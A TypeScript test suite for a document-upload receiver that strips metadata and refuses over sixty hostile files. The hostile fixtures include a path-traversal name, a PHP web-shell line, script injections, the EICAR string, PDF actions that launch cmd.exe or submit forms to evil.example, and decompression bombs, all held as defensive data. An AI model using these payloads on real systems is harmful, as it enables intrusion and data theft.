import { mkdtemp, readdir, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { buffer } from "node:stream/consumers";
import { deflateSync, gzipSync } from "node:zlib";
import { afterAll, beforeAll, expect, test } from "vitest";
import { folderStorage } from "#app/platform/storage/folder-storage.server.ts";
import type { Storage } from "#app/platform/storage/storage.ts";
import { aesVault } from "#app/platform/vault/aes-vault.server.ts";
import {
  jpegFrame,
  jpegSegment,
  PNG_SIGNATURE,
  pdfOf,
  pdfStream,
  pngChunk,
  pngHeader,
  sampleJpeg,
  samplePdf,
  samplePng,
} from "../sample-files.ts";
import { EICAR } from "./foreign-marks.ts";
import { receiveDocument } from "./receive-document.server.ts";
import { DocumentRefused, type Refusal } from "./refused.ts";

let folder: string;
let storage: Storage;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "gangway-documents-"));
  storage = folderStorage(folder, aesVault([{ id: "t1", key: new Uint8Array(32).fill(3) }]));
});
afterAll(() => rm(folder, { recursive: true }));

async function* inPieces(bytes: Buffer, size = 65_536) {
  for (let at = 0; at < bytes.length; at += size) yield bytes.subarray(at, at + size);
}
let count = 0;
const send = (bytes: Buffer, name: string, declared?: string, size?: number) =>
  receiveDocument(storage, { name, declared, body: inPieces(bytes, size) }, `kyc/${++count}`);
const kept = async () => buffer((await storage.get(`kyc/${count}`))!);
const files = async () =>
  (await readdir(folder, { recursive: true, withFileTypes: true })).filter((entry) => entry.isFile()).length;

const exif = (orientation: number) => {
  const tiff = Buffer.alloc(64);
  tiff.write("II*\0\x08\0\0\0\x02\0", "latin1");
  tiff.writeUInt16LE(0x8825, 10); // where the picture was taken
  tiff.writeUInt16LE(0x0112, 22);
  tiff.writeUInt16LE(3, 24);
  tiff.writeUInt32LE(1, 26);
  tiff.writeUInt16LE(orientation, 30);
  return jpegSegment(0xe1, Buffer.concat([Buffer.from("Exif\0\0"), tiff, Buffer.from("N 37 33 59 E 126 58 40")]));
};

test("a PDF, a PNG and a JPEG are taken, told by what they are", async () => {
  const before = await files();
  expect((await send(samplePdf("Register extract", 3), "등기사항전부증명서.pdf", "application/pdf")).facts).toEqual({
    type: "application/pdf",
    width: null,
    height: null,
    pages: 3,
  });
  expect((await kept()).equals(samplePdf("Register extract", 3))).toBe(true);
  expect((await send(samplePng(640, 480), "scan.PNG", "image/png")).facts).toMatchObject({
    type: "image/png",
    width: 640,
    height: 480,
  });
  expect((await send(sampleJpeg(800, 600), "photo", "")).facts).toMatchObject({
    type: "image/jpeg",
    width: 800,
    height: 600,
  });
  expect(await files()).toBe(before + 3);
});

test.each([1, 7, 1_000])("it does not matter that a file comes %i bytes at a time", async (size) => {
  expect((await send(samplePng(40, 30), "a.png", undefined, size)).facts.width).toBe(40);
  expect((await send(sampleJpeg(40, 32, [exif(6)]), "a.jpg", undefined, size)).facts.height).toBe(32);
});

test("place, time and remarks do not reach the storage, which side is up does", async () => {
  const remark = jpegSegment(0xfe, Buffer.from("taken with secret camera"));
  await send(sampleJpeg(64, 64, [exif(6), remark]), "id.jpg");
  const photo = await kept();
  expect(photo.includes("N 37 33 59")).toBe(false);
  expect(photo.includes("secret camera")).toBe(false);
  expect(photo.includes(Buffer.from([0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, 6]))).toBe(true);
  expect((await send(photo, "again.jpg")).facts.width).toBe(64);

  await send(samplePng(64, 64, [pngChunk("tEXt", Buffer.from("Author\0Kim"))]), "id.png");
  expect((await kept()).includes("Kim")).toBe(false);
  expect((await kept()).equals(samplePng(64, 64))).toBe(true);
});

test("a depth map that a phone puts behind a photo is left behind", async () => {
  await send(Buffer.concat([sampleJpeg(64, 64), sampleJpeg(8, 8)]), "portrait.jpg");
  expect((await kept()).equals(sampleJpeg(64, 64))).toBe(true);
});

test("interlaced, palette and sixteen-bit pictures are counted right", async () => {
  const rows = (bytes: number) => pngChunk("IDAT", deflateSync(Buffer.alloc(bytes)));
  const picture = (head: Buffer, ...rest: Buffer[]) => Buffer.concat([PNG_SIGNATURE, head, ...rest, pngChunk("IEND")]);
  const palette = pngChunk("PLTE", Buffer.from([0, 0, 0, 255, 255, 255]));
  await expect(
    send(picture(pngHeader(9, 5, { depth: 1, colour: 3 }), palette, rows(5 * 3)), "a.png"),
  ).resolves.toBeTruthy();
  await expect(send(picture(pngHeader(3, 2, { depth: 16, colour: 6 }), rows(2 * 25)), "b.png")).resolves.toBeTruthy();
  // 3 × 3 in seven passes: 1×1, nothing, nothing, 1×1, 2×1, 1×2, 3×1, each row with a filter byte before it.
  const rowsOfPasses = [2, 0, 0, 2, 3, 2 + 2, 4].reduce((sum, bytes) => sum + bytes);
  await expect(send(picture(pngHeader(3, 3, { interlace: 1 }), rows(rowsOfPasses)), "c.png")).resolves.toBeTruthy();
});

test.each([
  ["../../etc/passwd.pdf", "passwd.pdf"],
  ["C:\\Users\\kim\\사업자등록증.pdf", "사업자등록증.pdf"],
  ["a\u202efdp.pdf", "afdp.pdf"],
  ["...pdf", "pdf"],
  ["", "document"],
])("a name like %j is kept as %j", async (given, name) => {
  expect((await send(samplePdf(), given)).name).toBe(name);
});

test("a very long name keeps its ending", async () => {
  const { name } = await send(samplePdf(), `${"가".repeat(400)}.pdf`);
  expect(name).toHaveLength(255);
  expect(name.endsWith(".pdf")).toBe(true);
});

/** One catalogue entry or object more than an honest page has. */
const withCatalog = (entry: string, ...objects: (string | Buffer)[]) =>
  pdfOf([
    `<< /Type /Catalog /Pages 2 0 R ${entry} >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ...objects,
  ]);
/** Objects inside a compressed object stream, where no search for words finds them. */
const hidden = (object: string) => {
  const body = Buffer.from(`9 0 ${object}`);
  return withCatalog("/Hidden 9 0 R", pdfStream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", deflateSync(body)));
};
const zip = Buffer.concat([
  Buffer.from("PK\u0003\u0004\u0014\0\0\0", "latin1"),
  Buffer.alloc(40),
  Buffer.from("PK\u0005\u0006", "latin1"),
  Buffer.alloc(18),
]);
const remark = (text: string) => jpegSegment(0xfe, Buffer.from(text, "latin1"));
const withoutCrc = (bytes: Buffer, at: number) => {
  const broken = Buffer.from(bytes);
  broken[at] = (broken[at]! + 1) % 256;
  return broken;
};
const png = (...parts: Buffer[]) => Buffer.concat([PNG_SIGNATURE, ...parts, pngChunk("IEND")]);
const pixels = (bytes: number) => pngChunk("IDAT", deflateSync(Buffer.alloc(bytes)));

const hostile: [string, Buffer, string, Refusal, string?][] = [
  // nothing, or something else
  ["nothing", Buffer.alloc(0), "a.pdf", "empty"],
  ["text", Buffer.from("just text"), "a.pdf", "kind"],
  ["a web page", Buffer.from("<html><script>1</script>"), "a.pdf", "kind"],
  ["a drawing with scripts", Buffer.from("<svg onload=alert(1)>"), "a.png", "kind"],
  ["a zip", zip, "a.pdf", "kind"],
  ["a spreadsheet", zip, "a.xlsx", "kind"],
  ["a program", Buffer.from("MZ\x90\0\x03", "latin1"), "a.pdf", "kind"],
  ["a GIF", Buffer.from("GIF89a\x01\0\x01\0"), "a.png", "kind"],
  ["a TIFF", Buffer.from("II*\0\x08\0\0\0"), "a.jpg", "kind"],
  ["a WebP", Buffer.from("RIFF\0\0\0\0WEBPVP8 "), "a.jpg", "kind"],
  ["a PostScript", Buffer.from("%!PS-Adobe-3.0"), "a.pdf", "kind"],
  ["a packed file", gzipSync(samplePdf()), "a.pdf", "kind"],
  ["a photo of an iPhone as it is", Buffer.from("\0\0\0\x18ftypheic\0\0\0\0", "latin1"), "a.heic", "heic"],
  ["an AVIF", Buffer.from("\0\0\0\x18ftypavif\0\0\0\0", "latin1"), "a.jpg", "heic"],
  ["the test virus", Buffer.from(`X5O!P%@AP[4\\PZX54(P^)7CC)7}$${EICAR}!$H+H*`), "a.pdf", "kind"],
  ["zeros", Buffer.alloc(4096), "a.png", "kind"],
  ["a PDF behind other bytes", Buffer.concat([Buffer.from("GIF89a"), samplePdf()]), "a.pdf", "kind"],
  ["half a signature", PNG_SIGNATURE.subarray(0, 4), "a.png", "kind"],

  // names that deceive
  ["a PNG called JPG", samplePng(8, 8), "a.jpg", "disguised"],
  ["a PDF called PNG", samplePdf(), "a.png", "disguised"],
  ["a PNG declared PDF", samplePng(8, 8), "a.png", "disguised", "application/pdf"],
  ["a PDF declared a web page", samplePdf(), "a.pdf", "disguised", "text/html"],
  ["a PDF called a program", samplePdf(), "a.exe", "extension"],
  ["a PDF called a program in disguise", samplePdf(), "a.pdf.exe", "extension"],
  ["a picture called a script in disguise", samplePng(8, 8), "a.php.png", "extension"],
  ["a picture called a page in disguise", samplePng(8, 8), "shell.html.png", "extension"],
  ["a null byte in the name", samplePdf(), "a.php\0.pdf", "name"],
  ["a PDF called Word", samplePdf(), "a.docx", "extension"],

  // PNG
  ["a PNG of a header only", PNG_SIGNATURE, "a.png", "truncated"],
  ["a PNG cut in the pixels", samplePng(300, 300).subarray(0, 60), "a.png", "truncated"],
  ["a PNG without its end", samplePng(30, 30).subarray(0, -12), "a.png", "truncated"],
  ["a PNG with a web page behind it", Buffer.concat([samplePng(8, 8), Buffer.from("<script>")]), "a.png", "trailing"],
  ["a PNG that is a zip as well", Buffer.concat([samplePng(8, 8), zip]), "a.png", "trailing"],
  [
    "a PNG with a page in a remark",
    samplePng(8, 8, [pngChunk("tEXt", Buffer.from("a\0<script>alert(1)"))]),
    "a.png",
    "polyglot",
  ],
  [
    "a PNG with the test virus in a remark",
    samplePng(8, 8, [pngChunk("tEXt", Buffer.from(`a\0${EICAR}`))]),
    "a.png",
    "malware",
  ],
  ["a PNG with a wrong checksum", withoutCrc(samplePng(8, 8), 20), "a.png", "damaged"],
  ["a PNG with changed pixels", withoutCrc(samplePng(80, 80), 50), "a.png", "damaged"],
  ["a PNG with a flood of announced pixels", png(pngHeader(60_000, 60_000), pixels(100)), "a.png", "pixels"],
  ["a PNG with more pixels than announced", png(pngHeader(8, 8), pixels(50_000_000)), "a.png", "pixels"],
  ["a PNG with fewer pixels than announced", png(pngHeader(100, 100), pixels(500)), "a.png", "truncated"],
  ["a PNG without pixels", png(pngHeader(8, 8)), "a.png", "damaged"],
  ["a PNG of no size", png(pngHeader(0, 8), pixels(8)), "a.png", "damaged"],
  ["a PNG of a strange depth", png(pngHeader(8, 8, { depth: 3 }), pixels(72)), "a.png", "damaged"],
  ["a PNG with two headers", png(pngHeader(8, 8), pngHeader(9, 9), pixels(72)), "a.png", "damaged"],
  [
    "a PNG with an unknown vital part",
    png(pngHeader(8, 8), pngChunk("EVIL", Buffer.from("x")), pixels(72)),
    "a.png",
    "unusual",
  ],
  [
    "a PNG with a part of two gigabytes",
    png(pngHeader(8, 8), Buffer.from([0x7f, 0xff, 0xff, 0xff, 0x74, 0x45, 0x58, 0x74])),
    "a.png",
    "unusual",
  ],

  // JPEG
  ["a JPEG of a mark only", Buffer.from([0xff, 0xd8, 0xff, 0xe0]), "a.jpg", "truncated"],
  ["a JPEG cut in the pixels", sampleJpeg(300, 300).subarray(0, -100), "a.jpg", "truncated"],
  ["a JPEG with a zip behind it", Buffer.concat([sampleJpeg(8, 8), zip]), "a.jpg", "trailing"],
  [
    "a JPEG with a script behind it",
    Buffer.concat([sampleJpeg(8, 8), Buffer.from("<?php system($_GET[0]);")]),
    "a.jpg",
    "trailing",
  ],
  ["a JPEG that is a PDF as well", sampleJpeg(8, 8, [remark("%PDF-1.4 1 0 obj")]), "a.jpg", "polyglot"],
  ["a JPEG with a page in a remark", sampleJpeg(8, 8, [remark("<HTML><body>")]), "a.jpg", "polyglot"],
  ["a JPEG with a program in a remark", sampleJpeg(8, 8, [remark("<?php eval(1);")]), "a.jpg", "polyglot"],
  ["a JPEG with a zip in a remark", sampleJpeg(8, 8, [remark("PK\u0003\u0004")]), "a.jpg", "polyglot"],
  ["a JPEG with the test virus in a remark", sampleJpeg(8, 8, [remark(EICAR)]), "a.jpg", "malware"],
  [
    "a JPEG whose second picture is a page",
    Buffer.concat([sampleJpeg(8, 8), sampleJpeg(8, 8, [remark("<script>")])]),
    "a.jpg",
    "polyglot",
  ],
  ["a JPEG with a flood of pixels", jpegWithFrame(jpegFrame(65_000, 65_000)), "a.jpg", "pixels"],
  ["a JPEG of no size", jpegWithFrame(jpegFrame(0, 8)), "a.jpg", "damaged"],
  ["a JPEG coded in a way nobody shows", jpegWithFrame(jpegFrame(8, 8, 0xc9)), "a.jpg", "unusual"],
  ["a JPEG with two frames", jpegWithFrame(Buffer.concat([jpegFrame(8, 8), jpegFrame(9, 9)])), "a.jpg", "damaged"],
  ["a JPEG with bytes between its parts", sampleJpeg(8, 8, [Buffer.from("hello")]), "a.jpg", "damaged"],
  ["a JPEG without a picture", Buffer.from([0xff, 0xd8, 0xff, 0xd9]), "a.jpg", "damaged"],

  // PDF
  ["a PDF cut off", samplePdf().subarray(0, -40), "a.pdf", "truncated"],
  ["a PDF of a first line only", Buffer.from("%PDF-1.7\n"), "a.pdf", "truncated"],
  ["a PDF with a zip behind it", Buffer.concat([samplePdf(), zip]), "a.pdf", "polyglot"],
  ["a PDF with a page behind it", Buffer.concat([samplePdf(), Buffer.from("<script>1</script>")]), "a.pdf", "trailing"],
  ["a PDF with a zip inside", withCatalog("", pdfStream("", zip)), "a.pdf", "polyglot"],
  ["a PDF with the test virus in it", withCatalog("", pdfStream("", Buffer.from(EICAR))), "a.pdf", "malware"],
  [
    "an encrypted PDF",
    pdfOf(
      [
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [] /Count 0 >>",
        "<< /Filter /Standard /V 2 /R 3 /P -44 >>",
      ],
      "/Encrypt 3 0 R /ID [<00><00>]",
    ),
    "a.pdf",
    "encrypted",
  ],
  [
    "a PDF with a script on opening",
    withCatalog("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "a.pdf",
    "active",
  ],
  [
    "a PDF with a script, spelled in hex",
    withCatalog("/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
    "a.pdf",
    "active",
  ],
  ["a PDF with a script in a compressed part", hidden("<< /S /JavaScript /JS (app.alert(1)) >>"), "a.pdf", "active"],
  [
    "a PDF with a script on a page",
    withCatalog("/AA << /WC << /S /JavaScript /JS 4 0 R >> >>", pdfStream("", Buffer.from("x"))),
    "a.pdf",
    "active",
  ],
  ["a PDF that starts a program", withCatalog("/OpenAction << /S /Launch /F (cmd.exe) >>"), "a.pdf", "active"],
  ["a PDF that starts a program, hidden", hidden("<< /S /Launch /F (cmd.exe) >>"), "a.pdf", "active"],
  ["a PDF that sends a form", hidden("<< /S /SubmitForm /F (https://evil.example) >>"), "a.pdf", "active"],
  [
    "a PDF that opens another file",
    hidden("<< /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit] >>"),
    "a.pdf",
    "active",
  ],
  [
    "a PDF with a form of its own language",
    withCatalog("/AcroForm << /XFA 4 0 R >>", pdfStream("", Buffer.from("<xdp/>"))),
    "a.pdf",
    "active",
  ],
  ["a PDF with a film", hidden("<< /Type /Annot /Subtype /RichMedia >>"), "a.pdf", "active"],
  [
    "a PDF with a file attached",
    withCatalog("/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>", "<< /Type /Filespec /F (a.exe) >>"),
    "a.pdf",
    "attachments",
  ],
  [
    "a PDF with a file attached, hidden",
    hidden("<< /Type /Filespec /F (a) /EF << /F 4 0 R >> >>"),
    "a.pdf",
    "attachments",
  ],
  ["a PDF that is a portfolio", withCatalog("/Collection << /View /D >>"), "a.pdf", "attachments"],
  ["a PDF of too many pages", samplePdf("x", 51), "a.pdf", "pages"],
  [
    "a PDF of no pages",
    pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"]),
    "a.pdf",
    "damaged",
  ],
  ["a PDF without a beginning", pdfOf(["<< /Type /Nothing >>"]), "a.pdf", "damaged"],
  [
    "a PDF whose pages go round in a circle",
    pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]),
    "a.pdf",
    "damaged",
  ],
  [
    "a PDF with a picture of a billion pixels",
    withCatalog(
      "",
      pdfStream(
        "/Type /XObject /Subtype /Image /Width 40000 /Height 40000 /ColorSpace /DeviceGray /BitsPerComponent 8",
        Buffer.from("x"),
      ),
    ),
    "a.pdf",
    "pixels",
  ],
  [
    "a PDF that inflates without end",
    withCatalog(
      "",
      pdfStream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", deflateSync(Buffer.alloc(200_000_000, 32))),
    ),
    "a.pdf",
    "tooComplex",
  ],
  ["a PDF nested without end", withCatalog(`/Deep ${"[".repeat(5_000)}${"]".repeat(5_000)}`), "a.pdf", "damaged"],
  ["twenty megabytes and one", Buffer.concat([samplePdf(), Buffer.alloc(20 * 1024 * 1024)]), "a.pdf", "tooLarge"],
  [
    "twenty megabytes of remarks",
    sampleJpeg(
      8,
      8,
      Array.from({ length: 330 }, () => jpegSegment(0xfe, Buffer.alloc(65_500))),
    ),
    "a.jpg",
    "tooLarge",
  ],
];

function jpegWithFrame(frame: Buffer): Buffer {
  return Buffer.concat([Buffer.from([0xff, 0xd8]), frame, Buffer.from([0xff, 0xd9])]);
}

test("the collection of hostile files is large enough to mean something", () => {
  expect(hostile.length).toBeGreaterThanOrEqual(60);
  expect(new Set(hostile.map(([what]) => what)).size).toBe(hostile.length);
});

test.each(hostile)("%s is refused, and nothing is left of it", async (_, bytes, name, refusal, declared) => {
  const before = await files();
  const answer = await send(bytes, name, declared).catch((error: unknown) => error);
  expect(answer).toBeInstanceOf(DocumentRefused);
  expect((answer as DocumentRefused).refusal, (answer as Error).message).toBe(refusal);
  expect(await files()).toBe(before);
});

test("an upload that breaks off leaves nothing", async () => {
  const before = await files();
  async function* breaking() {
    yield samplePng(300, 300).subarray(0, 50);
    throw new Error("the line went dead");
  }
  await expect(receiveDocument(storage, { name: "a.png", body: breaking() }, "kyc/broken")).rejects.toThrow(
    "the line went dead",
  );
  expect(await files()).toBe(before);
});
